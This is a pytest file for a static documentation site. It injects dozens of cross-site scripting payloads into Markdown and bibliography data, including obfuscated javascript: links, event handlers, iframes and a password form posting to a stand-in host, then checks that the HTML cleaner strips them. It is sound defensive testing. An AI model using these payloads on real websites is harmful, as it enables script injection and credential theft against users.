"""Whatever stands in Markdown or in the data, no page runs it, goes to it or fetches it; and whoever wrote it is told where.

One project holds every hole that is tried, each with a number of its own, and is built once with the rules silenced: what the
rules would stop must not get through without them either.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import markdown
import pytest
from conftest import BuiltSite, build, copy_project, expect_none
from lxml import etree, html
from playwright.sync_api import Browser

from pustaka import load
from pustaka.render.cleaning import clean, dropped
from pustaka.rules import check

pytestmark = pytest.mark.our_studies

#: What is written on a page; in each, N becomes the hole's number.
MARKDOWN = {
    "a script": "<script>jahat(N)</script>",
    "a script in a line": "Kata <script>jahat(N)</script> kata.",
    "a script that begins in capitals": "<SCRIPT SRC=https://jahat.example/N></SCRIPT>",
    "a handler on a block": '<div onclick="jahat(N)">kata</div>',
    "a handler in a line": "Kata <b onclick='jahat(N)'>kata</b>.",
    "a handler without quotation marks": "Kata <b onclick=jahat(N)>kata</b>.",
    "a handler in a cell": "| a | b |\n|---|---|\n| a | <b onmouseover=jahat(N)>b</b> |",
    "a handler on an element of its own": "<details ontoggle=jahat(N) open>kata</details>",
    "a handler on a picture": "Kata <img src=x onerror=jahat(N)>.",
    "a handler as an attribute list": 'Kata *kata*{onclick="jahat(N)"}.',
    "a handler in a heading": '## Judul <b onclick="jahat(N)">kata</b> {#judul-N}',
    "a handler in a heading's attribute list": '## Judul {#tajuk-N onclick="jahat(N)"}',
    "a handler in a block's options": "/// note | Judul\n    attrs: {onclick: 'jahat(N)'}\n\nKata.\n///",
    "a handler in a block's title": "/// note | Judul <b onclick='jahat(N)'>kata</b>\nKata.\n///",
    "a style": "<style>body::after { content: 'jahat(N)' }</style>",
    "a style attribute": "Kata <b style=\"background: url('https://jahat.example/N')\">kata</b>.",
    "a style as an attribute list": "Kata *kata*{style=\"background: url('https://jahat.example/N')\"}.",
    "a link": "[kata](javascript:jahat(N))",
    "a link in capitals": "[kata](JaVaScRiPt:jahat(N))",
    "a link with a character reference": "[kata](&#106;avascript:jahat(N))",
    "a link with a reference for a tab": "[kata](java&Tab;script:jahat(N))",
    "a link with a space": "[kata](< javascript:jahat(N)>)",
    "a link of VBScript": "[kata](vbscript:jahat(N))",
    "a link to data": "[kata](data:text/html,jahat(N))",
    "a link of a scheme that is not known": "[kata](jahat-N:kata)",
    "a link that is set apart": "[kata][jahat-N]\n\n[jahat-N]: javascript:jahat(N)",
    "an address between angle brackets": "Kata <javascript:jahat(N)> kata.",
    "a link by an attribute list": "[kata](#main){href=javascript:jahat(N)}",
    "a link in HTML": 'Kata <a href="javascript:jahat(N)">kata</a>.',
    "a link in HTML with a control character": 'Kata <a href=" &#14; javascript:jahat(N)">kata</a>.',
    "a link in HTML with an end of line": 'Kata <a href="java&#10;script:jahat(N)">kata</a>.',
    "a picture's address": "![kata](javascript:jahat(N))",
    "a picture of another host": "![kata](https://jahat.example/N.png)",
    "a picture of another host without a scheme": "![kata](//jahat.example/N.png)",
    "a picture in HTML of another host": "Kata <img alt=kata src=https://jahat.example/N.png>.",
    "a drawing": '<svg onload="jahat(N)"><script>jahat(N)</script></svg>',
    "a drawing with a link": 'Kata <svg><a xlink:href="javascript:jahat(N)"><text>kata</text></a></svg>.',
    "a base": '<base href="https://jahat.example/N/">',
    "a refresh": '<meta http-equiv="refresh" content="9;url=https://jahat.example/N">',
    "a frame": '<iframe src="https://jahat.example/N"></iframe>',
    "a frame with a document": '<iframe srcdoc="<script>parent.jahat(N)</script>"></iframe>',
    "an object": '<object data="https://jahat.example/N"></object>',
    "an embedded thing": '<embed src="https://jahat.example/N">',
    "a form": '<form action="https://jahat.example/N"><input name="sandi"></form>',
    "a button": 'Kata <button formaction="javascript:jahat(N)">kata</button>.',
    "a style sheet": '<link rel="stylesheet" href="https://jahat.example/N.css">',
    "formulas that hide a handler": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=jahat(N)&gt;">',
    "a template": '<template shadowrootmode="open"><img src=x onerror=jahat(N)></template>',
    "a handler behind a null": "Kata <b\0onclick=jahat(N)>kata</b>.",
}

#: What is written into the data: the file, what stands there, and what takes its place.
DATA = {
    "a title": (
        "bibliography/references.bib",
        "title     = {Asset Based Community Development ({ABCD})}",
        "title     = {Asset <script>jahat(N)</script> <i onclick=jahat(N)>kata</i> <span style='color:red' onclick='jahat(N)'>kata</span>}",
    ),
    "a link in a title": (
        "bibliography/references.bib",
        "title        = {Memberdayakan Masyarakat Melalui Marketing Online}",
        r"title        = {Memberdayakan \href{javascript:jahat(N)}{Masyarakat} \url{javascript:jahat(N)}}",
    ),
    "an address of a work": (
        "bibliography/references.bib",
        "  pagetotal = {22},",
        "  pagetotal = {22},\n  url = {javascript:jahat(N)},\n  note = {<img src=x onerror=jahat(N)>},",
    ),
    "an address of a study": ("bibliography/references.bib", "@thesis{ramdhan2025,", "@thesis{ramdhan2025,\n  url = {javascript:jahat(N)},"),
    "a language of a work": (
        "bibliography/references.bib",
        "doi          = {10.26533/jmd.v1i2.175},\n  langid       = {indonesian},",
        "langid       = {id' onclick='jahat(N)},",
    ),
    "a DOI": ("bibliography/references.bib", "{10.19105/karsa.v14i2.121}", "{10.19105/karsa'><script>jahat(N)</script>}"),
    "an ORCID": ("bibliography/studies/kecamatan-cibiru.yml", "\nlanguage: id ", "\norcid: {ramdhan: 'javascript:jahat(N)'}\nlanguage: id "),
    "a section of a source": ("bibliography/studies/kecamatan-cibiru.yml", "Abstrak: Abstrak", "Abstrak: <script>jahat(N)</script>"),
    "a short title": ("bibliography/studies/kecamatan-cibiru.yml", "id: Kecamatan Cibiru", "id: <script>jahat(N)</script>"),
    "a keyword": ("bibliography/studies/kecamatan-cibiru.yml", "id: [interaksi sosial,", "id: ['\"><script>jahat(N)</script>',"),
    "a meaning": ("bibliography/glossary.yml", "id: Ringkasan pendek", "id: <script>jahat(N)</script> Ringkasan pendek"),
    "a word of a drawing": ("bibliography/figures.yml", "id: Lima D,", "id: '</text><script>jahat(N)</script>',"),
    "a caption": ("bibliography/figures.yml", 'id: "Dua bentuk', 'id: "<script>jahat(N)</script> Dua bentuk'),
    "an erratum": ("bibliography/errata.yml", 'printed: "(t.t.)"', 'printed: "<script>jahat(N)</script>"'),
    "a report": ("bibliography/reports/sahabat-community.yml", "printed: M.Sc, 2019", "printed: <script>jahat(N)</script>"),
    "a word of the interface": ("bibliography/words.yml", "references: {id: Daftar rujukan,", "references: {id: <script>jahat(N)</script>,"),
    "a menu title of a page": ("docs/id/glossary.md", "menu: Istilah", "menu: <i onclick=jahat(N)>"),
    "a title of a page": ("docs/id/about.md", "title: ", "title: </title><script>jahat(N)</script>"),
    "a description of a page": ("docs/id/glossary.md", "description: ", "description: Kata \"'><script>jahat(N)</script> "),
}

#: What Markdown itself makes nothing of, and what this test's parser reads otherwise than a browser does (see the test with one).
HARMLESS = {"an address between angle brackets", "a handler behind a null", "formulas that hide a handler"}

HOLES = {name: number for number, name in enumerate([*MARKDOWN, *DATA], 1)}
each_hole = pytest.mark.parametrize("name", HOLES)
each_in_markdown = pytest.mark.parametrize("name", MARKDOWN)


def _numbered(text: str, name: str) -> str:
    return re.sub(r"\bN\b|(?<=-)N\b", str(HOLES[name]), text)


# -- What is dangerous -------------------------------------------------------------------------------------------------

_SAFE_SCHEMES = ("http:", "https:", "mailto:", "tel:")
_FETCHES = {"src", "srcset", "poster", "background", "data"}
_LINKS = {"href", "action", "formaction", "xlink:href", "cite", "ping"}


def dangers(tree: html.HtmlElement) -> Iterator[str]:
    """What in a page could run, send the reader to a script, or fetch from another host. Independent of the list that the site is made by."""
    for element in tree.iter(etree.Element):
        text = element.text or ""
        if element.tag in ("script", "style") and element.get("type") != "application/ld+json" and "jahat" in text:
            yield f"<{element.tag}>{text}"
        for name, value in element.attrib.items():
            address = re.sub(r"^[\0-\x20]+|[\t\r\n]", "", value).lower()
            scheme = re.match(r"[^/?#:]*:", address)
            if name.startswith("on") or name in ("srcdoc", "style") and "jahat" in value:
                yield f"{name}={value}"
            elif name in _LINKS and scheme and not address.startswith(_SAFE_SCHEMES):
                yield f"{name}={value}"
            elif name in _FETCHES and (scheme or address.startswith(("//", "\\"))):
                yield f"{name}={value}"
            elif "jahat.example" in address and (element.tag in ("base", "link", "form", "object", "embed", "iframe") or name == "content"):
                yield f"<{element.tag}> {name}={value}"


def numbers(found: Iterator[str]) -> set[int]:
    """The holes that dangers belong to."""
    return {int(number) for danger in found for number in re.findall(r"jahat\((\d+)\)|jahat\.example/(\d+)|jahat-(\d+)", danger) for number in number if number}


# -- The project that holds them all -----------------------------------------------------------------------------------

#: A build that no rule stops.
UNCHECKED = """
from pustaka import rules
rules.check = lambda site: []
from mkdocs.__main__ import cli
cli(["build", "--quiet"])
"""


@pytest.fixture(scope="module")
def infected(tmp_path_factory) -> Path:
    """A copy of the project with every hole."""
    root = copy_project(tmp_path_factory.mktemp("infected") / "project")
    for name, (path, old, new) in DATA.items():
        text = (root / path).read_text("utf-8")
        assert old in text, f"{path} has no “{old}” any more: try the hole elsewhere"
        (root / path).write_text(text.replace(old, _numbered(new, name), 1), "utf-8")
    page = root / "docs/id/about.md"
    page.write_text(page.read_text("utf-8") + "".join(f"\n{_numbered(text, name)}\n" for name, text in MARKDOWN.items()), "utf-8")
    return root


@pytest.fixture(scope="module")
def built(infected: Path) -> tuple[Path, str]:
    """The site built from it, and what the build said."""
    command = [sys.executable, "-c", f"import sys; sys.path.insert(0, 'scripts'){UNCHECKED}"]
    done = subprocess.run(command, cwd=infected, capture_output=True, encoding="utf-8", timeout=120, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    return infected / "site", done.stdout + done.stderr


@pytest.fixture(scope="module")
def got_through(built) -> dict[int, list[str]]:
    """What is dangerous on the built pages, by hole; 0 has what belongs to none."""
    found: dict[int, list[str]] = {}
    for page in BuiltSite(built[0], "https://temuan.example/").all_pages:
        for danger in dangers(page.tree):
            for number in numbers(iter([danger])) or {0}:
                found.setdefault(number, []).append(f"{page}: {danger}")
    return found


@each_hole
def test_nothing_gets_through(name: str, got_through):
    expect_none(got_through.get(HOLES[name], []))


def test_nothing_else_is_dangerous_either(got_through):
    expect_none(got_through.get(0, []))


@each_in_markdown
def test_without_the_cleaner_it_would_be_seen(name: str):
    """The test can fail: what Markdown makes of most holes is dangerous, and this test sees it. The others are harmless to begin with."""
    text = _numbered(MARKDOWN[name], name)
    made = markdown.markdown(text, extensions=["attr_list", "tables", "pymdownx.blocks.admonition"])
    seen = HOLES[name] in numbers(dangers(html.document_fromstring(made)))
    assert seen == (name not in HARMLESS)
